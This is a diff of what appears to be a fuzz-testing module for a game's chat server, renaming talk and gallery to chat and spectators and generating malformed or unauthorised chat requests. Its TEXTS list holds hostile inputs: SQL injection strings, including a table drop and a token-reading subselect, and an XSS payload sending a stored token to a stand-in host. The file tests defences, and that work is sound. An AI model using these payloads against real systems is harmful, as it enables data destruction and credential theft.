@@ -19,7 +19,7 @@ export interface Known {
 export const TEXTS = [
   `'; drop table commands; --`,
   `" or 1=1 --`,
-  '$1, (select token from persons)',
+  '$1, (select token from users)',
   '{"a":1},{',
   `<script>fetch('//e.example/'+localStorage.token)</script>`,
   `<img src=x onerror=alert(1)>`,
@@ -46,7 +46,7 @@ const TYPES = [
   'records',
   'why',
   'preview',
-  'talk',
+  'chat',
   'say',
   'state',
   'admin',
@@ -63,7 +63,7 @@ export function evilMessage(known: Known, random: () => number): Buffer {
   const id = Math.floor(random() * MARKER)
   const kind = random()
   if (kind < 0.54) return request(id, 'command', evilCommand(known, random, any))
-  if (kind < 0.57) return request(id, 'talk', evilReading(any))
+  if (kind < 0.57) return request(id, 'chat', evilReading(any))
   if (kind < 0.6) return request(id, 'say', evilLine(random, any))
   if (kind < 0.7) {
     const of = any(['why', 'preview', 'records'])
@@ -87,7 +87,7 @@ export function evilMessage(known: Known, random: () => number): Buffer {
   return garbage(random, any)
 }
 
-/** Texts that are no line of talk. */
+/** Texts that are no line of chat. */
 const NO_LINES: readonly unknown[] = [
   '',
   '  ',
@@ -104,37 +104,37 @@ const NO_LINES: readonly unknown[] = [
   { toString: 'a' },
 ]
 
-/** A line of talk with a harmful text, from somebody who may say something; some come more than once. */
+/** A line of chat with a harmful text, from somebody who may say something; some come more than once. */
 export function harmfulLine(token: string, random: () => number): Buffer {
   const text = TEXTS[Math.floor(random() * TEXTS.length)]
-  const id = `talk-${Math.floor(random() * 1e4)}`
-  return request(Math.floor(random() * MARKER), 'say', { room: 'gallery', id, text, token })
+  const id = `chat-${Math.floor(random() * 1e4)}`
+  return request(Math.floor(random() * MARKER), 'say', { room: 'spectators', id, text, token })
 }
 
-/** Lines of talk that nobody may say: among players what is no line, in the gallery anything, for an attacker holds a seat or has no name. */
+/** Lines of chat that nobody may say: among players what is no line, in the spectator room anything, for an attacker holds a seat or has no name. */
 function evilLine(random: () => number, any: <T>(list: readonly T[]) => T): object {
   const id = `evil-${Math.floor(random() * 1e12)}`
   switch (Math.floor(random() * 5)) {
     case 0:
       return { id, room: 'players', text: any(NO_LINES) }
     case 1:
-      return { id, room: 'gallery', text: any([...TEXTS, ...NO_LINES]) }
+      return { id, room: 'spectators', text: any([...TEXTS, ...NO_LINES]) }
     case 2:
-      return { id, room: 'gallery', text: any(TEXTS), token: any([...TEXTS, 'x'.repeat(43), 'x'.repeat(5_000)]) }
+      return { id, room: 'spectators', text: any(TEXTS), token: any([...TEXTS, 'x'.repeat(43), 'x'.repeat(5_000)]) }
     case 3:
       return { id: any<unknown>(['', 'short', 'a b c d e f', 'x'.repeat(41), null, {}, 7]), room: 'players', text: 'a' }
     default:
-      return { id, room: any<unknown>([...TEXTS, 'admin', 7]), text: any(TEXTS), person: 'somebody', n: 0, at: 0 }
+      return { id, room: any<unknown>([...TEXTS, 'admin', 7]), text: any(TEXTS), user: 'somebody', n: 0, at: 0 }
   }
 }
 
-/** Stretches of talk that there cannot be, or that an attacker may not read; in the gallery the answer may be a list. */
+/** Stretches of chat that there cannot be, or that an attacker may not read; in the spectator room the answer may be a list. */
 function evilReading(any: <T>(list: readonly T[]) => T): object {
   const number = any<unknown>([-1, 0.5, 2 ** 31, 1e308, '0', null, {}, [0]])
   return any<object>([
-    { room: 'gallery', token: any(TEXTS) },
+    { room: 'spectators', token: any(TEXTS) },
     { room: 'players', from: number },
-    { room: 'gallery', from: 0, to: number },
+    { room: 'spectators', from: 0, to: number },
     { room: any<unknown>([...TEXTS, null, {}]) },
     { room: 'players', from: 0, more: true },
   ])
